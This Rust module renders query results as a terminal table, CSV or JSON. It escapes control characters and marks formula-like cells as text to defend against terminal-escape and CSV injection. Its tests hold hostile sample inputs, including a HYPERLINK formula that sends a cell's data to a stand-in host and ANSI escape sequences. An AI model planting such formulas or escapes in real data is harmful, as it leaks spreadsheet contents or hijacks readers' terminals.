//! Rendering query results for people and programs: a terminal table, CSV,
//! a JSON array or newline-delimited JSON. String values pass through
//! [`crate::redact`] first unless the caller opts out, and what is written
//! for people shows control characters as text (`printable`). Timestamps are
//! written the way Arrow does when given no format: RFC 3339 in UTC, `Z`,
//! and only the fractional digits there are (`2026-11-20T10:00:00Z`); a
//! format string would be parsed again for every value written.

use std::borrow::Cow;
use std::fmt::Write as _;
use std::io::Write;
use std::str::FromStr;
use std::sync::Arc;

use datafusion::arrow::array::{Array, ArrayRef, RecordBatch, StringArray, StringViewArray};
use datafusion::arrow::datatypes::DataType;
use datafusion::arrow::error::ArrowError;
use datafusion::arrow::{csv, json, util::pretty};

use crate::redact::redact;

/// How results are written.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum OutputFormat {
    #[default]
    Table,
    Csv,
    Json,
    Ndjson,
}

impl FromStr for OutputFormat {
    type Err = String;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s {
            "table" => Ok(OutputFormat::Table),
            "csv" => Ok(OutputFormat::Csv),
            "json" => Ok(OutputFormat::Json),
            "ndjson" => Ok(OutputFormat::Ndjson),
            other => Err(format!("unknown format `{other}` (expected table, csv, json or ndjson)")),
        }
    }
}

#[derive(Debug, thiserror::Error)]
pub enum RenderError {
    #[error("formatting results failed: {0}")]
    Arrow(#[from] ArrowError),
    #[error("writing results failed: {0}")]
    Io(#[from] std::io::Error),
}

/// Replaces secrets in every string column of `batch`.
pub fn redact_batch(batch: &RecordBatch) -> Result<RecordBatch, ArrowError> {
    map_strings(batch, redact)
}

/// `text` safe to print to a terminal: every control character (C0, DEL and
/// C1) written as `\xNN`. User agents, keys and referers are the
/// requester's to choose, and an escape sequence among them would otherwise
/// drive the terminal of whoever reads the report (colour, title, cursor,
/// clearing the screen). Borrows when there is none.
pub(crate) fn printable(text: &str) -> Cow<'_, str> {
    if !text.chars().any(char::is_control) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        if c.is_control() {
            let _ = write!(out, "\\x{:02x}", u32::from(c));
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// `text` safe to open in a spreadsheet: a cell that starts with `=`, `+`,
/// `-`, `@`, a tab or a carriage return is a formula to Excel, LibreOffice
/// and Google Sheets, which a requester who chose it as their user agent or
/// key could make fetch a URL with the sheet's data or run a command
/// (CSV injection). Such a cell gets a leading `'`, which spreadsheets read
/// as "this is text"; others are borrowed unchanged.
pub(crate) fn spreadsheet_safe(text: &str) -> Cow<'_, str> {
    match text.as_bytes().first() {
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r') => Cow::Owned(format!("'{text}")),
        _ => Cow::Borrowed(text),
    }
}

/// [`printable`] applied to every string column of `batches`, for the
/// formats written to be read in a terminal.
fn printable_batches(batches: &[RecordBatch]) -> Result<Vec<RecordBatch>, ArrowError> {
    map_batches(batches, printable)
}

/// [`map_strings`] over each of `batches`.
pub(crate) fn map_batches(
    batches: &[RecordBatch],
    f: impl for<'a> Fn(&'a str) -> Cow<'a, str>,
) -> Result<Vec<RecordBatch>, ArrowError> {
    batches.iter().map(|b| map_strings(b, &f)).collect()
}

/// `batch` with every string value `v` replaced by `f(v)`.
fn map_strings(batch: &RecordBatch, f: impl for<'a> Fn(&'a str) -> Cow<'a, str>) -> Result<RecordBatch, ArrowError> {
    let columns = batch.columns().iter().map(|c| map_string_array(c, &f)).collect::<Vec<_>>();
    RecordBatch::try_new(batch.schema(), columns)
}

fn map_string_array(array: &ArrayRef, f: &impl for<'a> Fn(&'a str) -> Cow<'a, str>) -> ArrayRef {
    let mapped: Option<ArrayRef> = match array.data_type() {
        DataType::Utf8View => array
            .as_any()
            .downcast_ref::<StringViewArray>()
            .map(|a| Arc::new(a.iter().map(|v| v.map(f)).collect::<StringViewArray>()) as ArrayRef),
        DataType::Utf8 => array
            .as_any()
            .downcast_ref::<StringArray>()
            .map(|a| Arc::new(a.iter().map(|v| v.map(f)).collect::<StringArray>()) as ArrayRef),
        _ => None,
    };
    mapped.unwrap_or_else(|| array.clone())
}

/// Writes `batches` to `out` in `format`.
pub fn write_batches(format: OutputFormat, batches: &[RecordBatch], out: &mut dyn Write) -> Result<(), RenderError> {
    match format {
        OutputFormat::Table => writeln!(out, "{}", pretty::pretty_format_batches(&printable_batches(batches)?)?)?,
        OutputFormat::Csv => {
            let mut w = csv::WriterBuilder::new().with_header(true).build(out);
            batches.iter().try_for_each(|b| w.write(b))?;
        }
        OutputFormat::Json => {
            write_json::<json::writer::JsonArray>(batches, &mut *out)?;
            writeln!(out)?;
        }
        OutputFormat::Ndjson => write_json::<json::writer::LineDelimited>(batches, out)?,
    }
    Ok(())
}

/// Writes `batches` as JSON (`F`: an array or one object per line), with
/// nulls written out and timestamps in RFC 3339.
pub(crate) fn write_json<F: json::writer::JsonFormat>(
    batches: &[RecordBatch],
    out: &mut dyn Write,
) -> Result<(), RenderError> {
    let mut w = json::WriterBuilder::new().with_explicit_nulls(true).build::<_, F>(out);
    batches.iter().try_for_each(|b| w.write(b))?;
    w.finish()?;
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_a_spreadsheet_would_run_as_formulas_are_marked_as_text() {
        for formula in ["=HYPERLINK(\"http://x/?\"&A1)", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"] {
            assert_eq!(spreadsheet_safe(formula), format!("'{formula}"));
        }
        for text in ["Boto/2.49.0", "a=1", " =1", "'=1", ""] {
            assert!(matches!(spreadsheet_safe(text), Cow::Borrowed(t) if t == text), "{text:?}");
        }
    }

    #[test]
    fn control_characters_are_written_out_and_the_rest_kept() {
        assert_eq!(printable("a\u{1b}[31mb\u{7}\u{7f}\u{9b}2Jc\t"), "a\\x1b[31mb\\x07\\x7f\\x9b2Jc\\x09");
        assert!(matches!(printable("Boto/2.49.0 \\x1b \u{2cb} é"), Cow::Borrowed(_)));
        let batch = RecordBatch::try_from_iter([
            ("agent", Arc::new(StringViewArray::from(vec![Some("x\u{1b}]0;t\u{7}"), None])) as ArrayRef),
            ("key", Arc::new(StringArray::from(vec!["k\u{1b}", "k"])) as ArrayRef),
        ])
        .unwrap();
        let shown = printable_batches(&[batch]).unwrap();
        let agent = shown[0].column(0).as_any().downcast_ref::<StringViewArray>().unwrap();
        assert_eq!(agent.iter().collect::<Vec<_>>(), [Some("x\\x1b]0;t\\x07"), None]);
        let key = shown[0].column(1).as_any().downcast_ref::<StringArray>().unwrap();
        assert_eq!(key.iter().collect::<Vec<_>>(), [Some("k\\x1b"), Some("k")]);
    }
}
